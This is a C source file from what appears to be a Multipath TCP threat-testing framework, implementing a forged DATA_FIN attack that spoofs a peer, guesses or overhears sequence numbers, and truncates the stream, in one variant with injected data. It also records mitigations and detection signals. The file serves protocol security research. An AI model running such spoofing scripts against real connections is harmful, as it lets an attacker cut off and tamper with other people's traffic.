/* threats/dfin_1.c: T-DFIN-1, a forged DATA_FIN. */
#include "threats/record.h"

static void send_data_fin(struct plait_attack *a, const struct plait_numbers *numbers, uint64_t dsn)
{
    struct plait_segment fin = plait_forged(numbers, PLAIT_ACK);
    /* No data: subflow sequence number 0, length 1, the number of the DATA_FIN itself (N27). */
    plait_add_option(&fin, PLAIT_DSS)->dss =
        (struct plait_dss){.data_fin = true, .has_map = true, .dsn = dsn, .data_length = 1};
    plait_send(a, &fin);
}

static void try_wrong(struct plait_attack *a, const struct plait_numbers *numbers, void *argument)
{
    (void)argument;
    send_data_fin(a, numbers, plait_own_draw(a, "dsn", numbers->seq));
}

static void try_wrong_dsn(struct plait_attack *a, uint64_t dsn, void *numbers)
{
    send_data_fin(a, numbers, dsn);
}

static void run(struct plait_attack *a)
{
    plait_take_position(a);
    struct plait_numbers numbers =
        plait_get_numbers(a, plait_subflow_here(a), PLAIT_ACCEPT_IN_WINDOW, try_wrong, NULL);
    uint64_t dsn = plait_get_dsn(a, try_wrong_dsn, &numbers);
    plait_step(a, "ends the peer's stream with one empty segment");
    send_data_fin(a, &numbers, dsn);
}

/* Numbers that aged a little still reach what the victim expects next: with octets in front of the
 * end, as a FIN of TCP may have them. */
static void run_with_data(struct plait_attack *a)
{
    plait_take_position(a);
    struct plait_numbers numbers;
    struct plait_dss mapping;
    if (!plait_overheard_numbers(a, 0, &numbers) ||
        !plait_overheard_mapping(a, &numbers, &mapping)) {
        plait_refused(a, "nothing of this connection was overheard");
        return;
    }
    plait_step(a, "writes as the peer and ends its stream");
    struct plait_segment fin = plait_forged(&numbers, PLAIT_ACK | PLAIT_PSH);
    mapping.data_fin = true;
    mapping.data_length = PLAIT_FULL_OCTETS + 1;
    plait_add_option(&fin, PLAIT_DSS)->dss = mapping;
    fin.payload = plait_full_payload();
    fin.payload_octets = PLAIT_FULL_OCTETS;
    plait_send(a, &fin);
}

#define CASE(who, where, load)                                                                     \
    {                                                                                              \
        .form = "-", .position = where, .spoofing = true, .victim = who, .workload = load,         \
        .paths = 2, .one_path_too = true, .goals = PLAIT_GOAL_BIT(TRUNCATE), .script = run,        \
        .witnesses = {PLAIT_GRANT_NUMBERS}, .buys_dsn = true                                       \
    }

#define WITH_DATA(load)                                                                            \
    {                                                                                              \
        .form = "with-data", .position = "PE-H", .spoofing = true, .victim = PLAIT_SERVER,         \
        .workload = load, .paths = 2, .one_path_too = true, .goals = PLAIT_GOAL_BIT(TRUNCATE),     \
        .script = run_with_data, .witnesses = {                                                    \
            PLAIT_GRANT_NUMBERS                                                                    \
        }                                                                                          \
    }

static const struct plait_case cases[] = {
    WITH_DATA(PLAIT_TRICKLE),
    WITH_DATA(PLAIT_BULK),
    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK),
    CASE(PLAIT_SERVER, "PE-H", PLAIT_IDLE),
    CASE(PLAIT_SERVER, "OFF", PLAIT_IDLE),
    CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
    CASE(PLAIT_SERVER, "ON2-E", PLAIT_BULK),
};

const struct plait_threat plait_threat_dfin_1 = {
    .info =
        {
            .id = "T-DFIN-1",
            .title = "Forged DATA_FIN",
            .kind = "threat",
            .source = "RFC 8684 §3.3.3",
            .section = SECTION_DATA,
            .summary = "One segment on one path ends the stream of all paths.",
            .positions = PLAIT_LIST("ON1-E", "ON2-E", "PE-H", "OFF"),
            .goals = PLAIT_LIST("truncate"),
            .mechanisms = PLAIT_LIST("v0", "v1"),
            .host_risk = "none",
            .stopped_by_text = "M9 protected payload; the data sequence number must be exact",
            .remains_text = "an end of stream that the application itself confirms",
            .seen_as = PLAIT_LIST("data-fin-foreign", "contradiction", "data-fin-elsewhere",
                                  "data-elsewhere"),
            .wire_blind_text = BLIND_PACKET,
        },
    PLAIT_CASES(cases),
};
